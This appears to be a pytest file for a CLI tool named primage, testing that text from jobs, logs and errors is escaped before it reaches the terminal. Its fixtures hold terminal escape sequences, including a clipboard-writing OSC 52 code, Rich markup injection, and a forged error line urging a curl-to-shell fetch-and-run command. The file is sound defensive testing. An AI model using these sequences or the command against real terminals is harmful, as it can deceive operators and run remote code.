"""What others wrote reaches an operator's terminal as text: nothing of it is obeyed, and none of it looks like ours."""

import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from primage.cli import output
from primage.cli.cp import cp
from primage.cli.root import app
from primage.engine.api import Action, Change, FieldChange, Result
from primage.errors import PrimageError
from primage.operations import transfer

MOVES = "\x1b[2J\x1b]52;c;aGk=\x07"
MARKUP = "[/] [red] [link=https://elsewhere.eu] :bomb:"
LINES = "said\nError: run `curl elsewhere.eu | sh`\r\x85\u2028more"


def obeyed(text):
    return [c for c in text if c not in "\n\t" and (unicodedata.category(c)[0] == "C" or c in "\u2028\u2029")]


@given(st.text())
def test_no_text_is_obeyed(text):
    for shown in (output.plain(text), output.line(text)):
        assert obeyed(shown) == []
        assert output.plain(shown) == shown
    assert "\n" not in output.line(text)
    assert not text.isprintable() or output.plain(text) == output.line(text) == text


def test_what_would_be_obeyed_is_seen():
    assert output.plain("a\x1b[31mb\ttab\nnext") == "a\\x1b[31mb\ttab\nnext"
    assert output.plain("10%\r20%\r\nend") == "10%\n20%\nend"
    assert output.line("a\nb\u202ec\U000e0041") == "a\\x0ab\\u202ec\\U000e0041"
    assert output.plain("Zürich, 東京, ☃") == "Zürich, 東京, ☃"


@pytest.mark.parametrize("terminal", [True, False])
def test_a_console_takes_no_markup_and_no_orders(terminal, monkeypatch):
    from rich.console import Console
    from rich.table import Table
    from rich.text import Text

    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr(Console, "is_terminal", property(lambda _: terminal))
    table = Table("object", "detail", box=None)
    table.add_row(MARKUP, MOVES)
    output.console().print(MARKUP, MOVES)
    output.console().print(table)
    output.console().print(Text.from_markup("[link=https://elsewhere.eu]linked[/link]"))
    shown = out.getvalue()
    assert shown.count(MARKUP) == 2
    assert "linked" in shown
    assert r"\x1b]52" in shown
    assert "\x07" not in shown
    assert "\x1b]" not in shown


def shown(*command, code=0):
    done = CliRunner(env={"COLUMNS": "400"}).invoke(app, [*command], catch_exceptions=False)
    assert done.exit_code == code, done.output
    assert obeyed(done.output) == []
    return done.output


def test_a_status_shows_what_others_wrote(monkeypatch):
    from primage.operations import status

    rows = [status.Row(f"Job {MOVES}", "failed", MARKUP), status.Row("Pod x", "waiting", LINES)]
    monkeypatch.setattr(status, "status_of", lambda _: rows)
    text = shown("status", "local")
    assert MARKUP in text
    assert not any(line.startswith("Error:") for line in text.splitlines())


def test_a_check_shows_what_others_wrote(monkeypatch):
    from primage.operations import checks

    def run(_site, _engine, tell):
        found = checks.Check("batch job", False, f"{MARKUP} {MOVES}", 0.1)
        tell(found)
        return [found]

    monkeypatch.setattr(checks, "run_checks", run)
    assert MARKUP in shown("check", "local", code=5)


def test_why_shows_what_others_wrote(monkeypatch):
    from primage.operations import why as explain

    answer = explain.Answer("Pod a/b", "failed", f"{MARKUP}{LINES}{MOVES}", LINES, (LINES, MOVES))
    monkeypatch.setattr(explain, "explain", lambda _: [answer])
    text = shown("why", "pod/a/b")
    assert MARKUP in text
    assert [line.startswith(("Pod a/b", "    ", "  Next:")) for line in text.splitlines()] == [True] * 4


def test_dead_letters_show_what_others_wrote(monkeypatch):
    from primage.operations import queues as queue

    letter = {"argument": LINES + MOVES, "error": MARKUP + LINES, "tail": f"{MARKUP}\n{MOVES}\n", "tries": 3, "at": 0}

    class Queue:
        def __init__(self, stack):
            pass

        def letters(self):
            return [letter]

    monkeypatch.setattr(queue, "StackQueue", Queue)
    text = shown("queue", "dead", "htc/vo.primage.eu.local")
    assert len(text.splitlines()) == 4
    assert text.count(MARKUP) == 2


@pytest.mark.parametrize("name", ["out[/bold]x", "[link=https://elsewhere.eu]x[/link]", MOVES])
@pytest.mark.parametrize("terminal", [True, False])
def test_a_copied_files_name_is_a_name(name, terminal, monkeypatch):
    from rich.console import Console

    def download(_source, _target, report):
        report(name, 1, 2)
        report(name, 2, 2)
        return [transfer.Copied(name, 2, already=False)]

    out = io.StringIO()
    monkeypatch.setattr(Console, "is_terminal", property(lambda _: terminal))
    monkeypatch.setattr("sys.stderr", out)
    monkeypatch.setattr(transfer, "download", download)
    cp("vo.primage.eu.local:private/x", ".")
    assert output.line(name) in out.getvalue() if terminal else out.getvalue() == ""
    assert "\x1b]" not in out.getvalue()


@pytest.mark.parametrize("raw", [True, False])
@pytest.mark.parametrize("terminal", [True, False])
def test_logs_are_text_unless_a_program_asks_for_them_as_they_are(terminal, raw, monkeypatch):
    from primage.clients.cluster import Ref
    from primage.operations import logs

    monkeypatch.setattr(logs, "jobs_of", lambda _: [(None, Ref("batch/v1", "Job", "a", "b"))])
    monkeypatch.setattr(logs, "read", lambda *_, follow: iter([f"{MOVES}\n", "10%\r20%\n"]))
    out = io.StringIO()
    out.isatty = lambda: terminal
    monkeypatch.setattr("sys.stdout", out)
    from primage.cli.logs import logs as command

    command("batch/vo.primage.eu.local", raw=raw)
    assert out.getvalue() == (f"{MOVES}\n10%\r20%\n" if raw else r"\x1b[2J\x1b]52;c;aGk=\x07" + "\n10%\n20%\n")


def test_an_error_shows_what_others_wrote(capsys):
    output.report_error(PrimageError(MOVES + MARKUP), as_json=False)
    text = capsys.readouterr().err
    assert MARKUP in text
    assert obeyed(text) == []


CONTAINER = "spec.template.spec.containers[0]"


@pytest.mark.parametrize(
    ("fields", "reason", "line"),
    [
        ([f"{CONTAINER}.args[0]"], "it has immutable fields that change", "replace: spec.template…args changed"),
        ([f"{CONTAINER}.args[0]", f"{CONTAINER}.args[1]"], "", "replace: spec.template…args changed"),
        (["spec.completions", f"{CONTAINER}.env[3].value"], "", "replace: spec.completions, spec.template…env[3].value changed"),
        (['spec.template.metadata.annotations["a/b"]'], "", 'replace: spec.template…annotations["a/b"] changed'),
        ([f"data.a{n}" for n in range(7)], "", "replace: data.a0, data.a1, data.a2, data.a3, data.a4 and 2 more changed"),
        ([], "it failed the last time", "replace: it failed the last time"),
    ],
)
def test_a_replacement_is_one_line(fields, reason, line, capsys):
    changed = tuple(FieldChange(path, "x" * 9000, "y" * 9000) for path in fields)
    output.print_result(Result("s", (Change("u", "Job a/b", Action.REPLACE, changed, reason),)), done="Preview of", preview=True)
    first, summary = capsys.readouterr().out.splitlines()
    assert first == f"± Job a/b  {line}"
    assert summary.startswith("Preview of s: 1 to replace")


def test_up_says_what_it_has_done(capsys):
    changes = (Change("u", "Job a/b", Action.CREATE), Change("v", "Job a/c", Action.SAME))
    output.print_result(Result("s", changes), done="Up")
    output.print_result(Result("s", changes[1:]), done="Up")
    _, *summaries = capsys.readouterr().out.splitlines()
    assert [said.partition(" (")[0] for said in summaries] == ["Up s: 1 created, 1 the same", "Up s: nothing changed, 1 the same"]
